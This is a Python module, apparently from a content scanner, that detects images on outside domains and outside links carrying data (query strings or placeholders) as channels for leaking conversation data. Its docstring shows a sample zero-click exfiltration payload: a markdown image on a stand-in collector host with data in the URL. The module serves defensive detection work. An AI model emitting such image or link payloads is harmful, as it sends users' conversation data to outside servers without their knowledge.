"""Links and images that point outside the organisation's own domains.

An image in a record is fetched by whoever renders it: an image URL on
someone else's server, with the conversation in its query string, sends data
out without a click (``![x](https://collector.example/p.png?d=…)``). So every
image from a domain that is not the organisation's own is flagged, and so is a
link to an outside domain that carries data (a query string or a template
placeholder). A plain link to an outside page is a reference, not flagged.
The organisation's domains come from the ``PUBLIC_DOMAINS`` setting (and the
domains of the public contacts); subdomains count as theirs.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from ..folding import Hit

_URL = r"(?:https?:)?//[^\s<>\"')\]]+"
_IMAGE = re.compile(
    rf"!\[[^\]\n]{{0,200}}\]\(\s*<?({_URL})|<img\b[^>]{{0,300}}?\bsrc\s*=\s*[\"']?({_URL})",
    re.IGNORECASE,
)
_LINK = re.compile(rf"(?<![\w/])({_URL})", re.IGNORECASE)
_HOST = re.compile(r"^(?:https?:)?//(?:[^@/?#\s]*@)?([^/:?#\s]+)", re.IGNORECASE)
IMAGE_REASON = "image loaded from an outside domain (can send data out)"
LINK_REASON = "link to an outside domain carrying data"


def host(url: str) -> str:
    """The host of a URL, lower-cased, without a trailing dot."""
    m = _HOST.match(url)
    return m.group(1).lower().rstrip(".") if m else ""


def own(url: str, domains: Iterable[str]) -> bool:
    """The URL is on one of the organisation's domains or a subdomain of one."""
    name = host(url)
    return any(name == d or name.endswith("." + d) for d in domains if d)


def find(text: str, domains: frozenset[str] = frozenset()) -> list[Hit]:
    """Outside images, and outside links with data in them, on a folded view."""
    if "//" not in text:
        return []
    hits: list[Hit] = []
    images: set[int] = set()
    for m in _IMAGE.finditer(text):
        group = 1 if m.group(1) else 2
        images.add(m.start(group))
        if not own(m.group(group), domains):
            hits.append((m.start(), m.end(group), IMAGE_REASON))
    for m in _LINK.finditer(text):
        url = m.group(1)
        if m.start(1) in images or own(url, domains):
            continue
        if "?" in url or "{" in url or "%7B" in url.upper():
            hits.append((m.start(1), m.end(1), LINK_REASON))
    return hits
